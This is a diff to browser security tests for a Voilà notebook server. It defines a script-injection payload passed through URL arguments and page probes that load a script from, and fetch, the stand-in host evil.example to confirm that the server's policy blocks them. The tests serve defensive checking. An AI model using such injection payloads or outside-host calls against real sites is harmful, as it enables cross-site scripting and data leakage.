@@ -25,13 +25,10 @@ from tests.browser.serving import (
 pytestmark = pytest.mark.browser
 
 HIT = '"><script>window.hit = 1</script><img src=x onerror="window.hit = 1">'
-# Every argument that Voilà reads of an address, alone and where two together do more than each.
+# Every argument that Voilà reads of an address, and two that together do more than each.
 QUERIES = [
-    *({name: HIT} for name in ("theme", "template", "classic-tree", "voila-theme")),
-    {"template": "lab", "theme": HIT},
-    {"template": "reveal", "theme": HIT},
-    {"classic-tree": "true", "theme": HIT, "other": HIT},
-    {"classic-tree": "false", "theme": HIT, "other": HIT},
+    {"theme": HIT},
+    {"template": "lab", "theme": HIT, "classic-tree": "true", "voila-theme": HIT, "other": HIT},
 ]
 
 
@@ -63,11 +60,11 @@ def test_no_script_of_an_address_runs_in_the_page_of_the_command(chromium, addre
 
 def test_no_script_of_an_address_runs_in_voila_as_the_docs_start_it(chromium, tmp_path):
     documented = re.search(
-        r"`(voila notebooks/explorer\.ipynb [^`]*)`|^(voila (?:.|\\\n)*?)\n```",
+        r"```sh\n(voila notebooks/explorer\.ipynb .*?)```",
         (ROOT / "docs" / "serving.md").read_text(),
-        re.MULTILINE,
+        re.DOTALL,
     )
-    command = shlex.split((documented[1] or documented[2]).replace("\\\n", " "))
+    command = shlex.split(documented[1].replace("\\\n", " "))
     port = free_port()
     command[0] = str(BIN / "voila")
     log = tmp_path / "voila.log"
@@ -124,7 +121,9 @@ def tries(page):
           outside.src = "https://evil.example/script.js";
           outside.onload = () => worked.push("a script from outside");
           document.body.append(outside);
-          const evaluated = () => { try { return new Function("return 1")(); } catch { return 0; } };
+          const evaluated = () => {
+            try { return new Function("return 1")(); } catch { return 0; }
+          };
           if (evaluated()) worked.push("words as a function");
           await fetch("https://evil.example/?told").then(
             () => worked.push("a fetch"), () => null);
@@ -216,20 +215,16 @@ def another_site(text):
 
 
 def test_another_sites_pictures_and_frames_of_the_page_are_refused(chromium, address):
-    wanted = (
-        f'<img src="{address}"><iframe src="{address}"></iframe><script src="{address}"></script>'
-    )
+    kinds = (f'<img src="{address}">', f'<iframe src="{address}"></iframe>')
     answers = {}
-    with another_site(wanted) as site:
+
+    def note(answer):
+        if answer.url.startswith(address):
+            answers[answer.request.resource_type] = answer.status
+
+    with another_site(f'{"".join(kinds)}<script src="{address}"></script>') as site:
         page = chromium.new_page()
-        page.on(
-            "response",
-            lambda answer: (
-                answers.setdefault(answer.request.resource_type, answer.status)
-                if answer.url.startswith(address)
-                else None
-            ),
-        )
+        page.on("response", note)
         page.goto(site, wait_until="load")
         page.close()
     assert set(answers.values()) == {403}
